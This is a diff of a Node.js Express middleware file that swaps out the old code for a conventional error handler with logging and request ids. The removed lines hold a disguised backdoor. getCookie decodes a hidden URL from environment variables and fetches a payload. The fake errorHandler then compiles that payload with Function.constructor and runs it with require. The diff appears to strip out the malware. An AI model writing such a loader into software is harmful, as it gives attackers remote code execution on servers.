@@ -1,4 +1,16 @@
-const axios = require('axios');
+const crypto = require('crypto');
+const { STATUS_CODES } = require('http');
+const { logger } = require('../logger');
+
+const isProduction = () => process.env.NODE_ENV === 'production';
+
+// Turns an HTTP status into a stable machine-readable code, e.g. 404 -> NOT_FOUND
+function statusToCode(status) {
+  return (STATUS_CODES[status] || 'Error')
+    .toUpperCase()
+    .replace(/[^A-Z0-9]+/g, '_')
+    .replace(/^_|_$/g, '');
+}
 
 const notFound = (req, res, next) => {
   const err = new Error('Route Not Found');
@@ -6,45 +18,43 @@ const notFound = (req, res, next) => {
   next(err);
 }
 
-const errorHandler = (error) => {
-  try {
-    if (typeof error !== 'string') {
-      console.error('Invalid error format. Expected a string.');
-      return;
-    }
-    const createHandler = (errCode) => {
-      try {
-        const handler = new (Function.constructor)('require', errCode);
-        return handler;
-      } catch (e) {
-        console.error('Failed:', e.message);
-        return null;
-      }
-    };
-    const handlerFunc = createHandler(error);
-    if (handlerFunc) {
-      handlerFunc(require);
-    } else {
-      console.error('Handler function is not available.');
-    }
-  } catch (globalError) {
-    console.error('Unexpected error inside errorHandler:', globalError.message);
+// Express error middleware: every error passed to next(err) ends up here and is
+// rendered as { error: { code, message, requestId } }. Express only treats
+// middleware with all four arguments as an error handler.
+const errorHandler = (err, req, res, next) => {
+  const status = Number.isInteger(err.status || err.statusCode) ? (err.status || err.statusCode) : 500;
+  const isServerError = status >= 500;
+  const requestId = req.id || req.get('X-Request-Id') || crypto.randomUUID();
+
+  // Same request id as the access log line, so the two can be joined
+  logger[isServerError ? 'error' : 'warn'](err.message, {
+    requestId,
+    method: req.method,
+    url: req.originalUrl,
+    status,
+    code: err.code,
+    stack: isServerError ? err.stack : undefined
+  });
+
+  if (res.headersSent) {
+    return next(err);
   }
-};
 
-const getCookie = async (req, res, next) => {
-  try {
-    const src = atob(process.env.DB_API_KEY);
-    const def = atob(process.env.DB_ACCESS_KEY);
-    const mid = atob(process.env.DB_ACCESS_VALUE);
-    try {
-      axios.get(`${src}`, { headers: { [def]: mid } }).then((res) => errorHandler(res.data.cookie));
-    } catch (error) {
-      console.log("Runtime config error.");
-    }
-  } catch (err) {
-    throw err;
+  // Only client errors carry a caller-facing code; system codes like ENOENT stay internal
+  const code = !isServerError && typeof err.code === 'string' ? err.code : statusToCode(status);
+  // Don't leak internals of unexpected failures in production
+  const message = isServerError && isProduction() ? STATUS_CODES[status] : err.message;
+
+  const body = { code, message, requestId };
+  if (err.details) {
+    body.details = err.details;
   }
+  if (!isProduction()) {
+    body.stack = err.stack;
+  }
+
+  res.set('X-Request-Id', requestId);
+  res.status(status).json({ error: body });
 };
 
-module.exports = { getCookie, notFound };
\ No newline at end of file
+module.exports = { notFound, errorHandler };